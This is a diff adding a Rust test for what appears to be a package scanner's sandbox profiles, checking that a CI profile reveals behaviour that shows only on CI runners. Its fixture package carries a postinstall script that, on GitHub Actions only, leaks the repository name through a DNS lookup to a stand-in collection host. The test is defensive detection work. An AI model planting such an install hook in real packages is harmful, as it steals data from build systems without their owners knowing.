@@ -933,3 +933,58 @@ fn a_script_downloaded_and_run_at_install_is_caught_running_the_probe() {
         "{fetched:#}"
     );
 }
+
+#[test]
+fn the_ci_profile_shows_what_a_package_does_only_on_ci_runners() {
+    if !sandbox_tests_enabled("the_ci_profile_shows_what_a_package_does_only_on_ci_runners") {
+        return;
+    }
+    // The ci-runner-memory shape: nothing happens outside GitHub Actions.
+    let registry = TestRegistry::start();
+    registry.publish(
+        PackageBuilder::new("changed-files-lite", "1.0.0")
+            .script("postinstall", "node check.js")
+            .file(
+                "check.js",
+                "if (process.env.GITHUB_ACTIONS !== 'true') process.exit(0);\n\
+                 require('dns').lookup(`${process.env.GITHUB_REPOSITORY.replace('/', '.')}.ci.collect.example`, () => {});\n",
+            )
+            .file("index.js", "module.exports = 1;\n")
+            .build(),
+    );
+    let names = |profile: &str| {
+        let home = TempHome::new();
+        let (code, report, stderr) = scan_json(dsca(&home).args([
+            "scan",
+            "--dynamic",
+            "--sandbox-profile",
+            profile,
+            "--format",
+            "json",
+            "--registry",
+            registry.url(),
+            "changed-files-lite@1.0.0",
+        ]));
+        assert_eq!(code, 0, "{profile}: {stderr}");
+        let user = report["dynamic"]["sandbox"]["user"]
+            .as_str()
+            .unwrap_or_default()
+            .to_string();
+        (
+            texts(&phase_records(&report["dynamic"], "/dns"), "name"),
+            user,
+        )
+    };
+    let (developer, _) = names("developer");
+    assert!(
+        !developer.iter().any(|n| n.ends_with("ci.collect.example")),
+        "{developer:?}"
+    );
+    let (ci, user) = names("ci");
+    assert!(
+        ci.iter()
+            .any(|n| n == "acme-corp.web-app.ci.collect.example"),
+        "{ci:?}"
+    );
+    assert_eq!(user, "runner");
+}
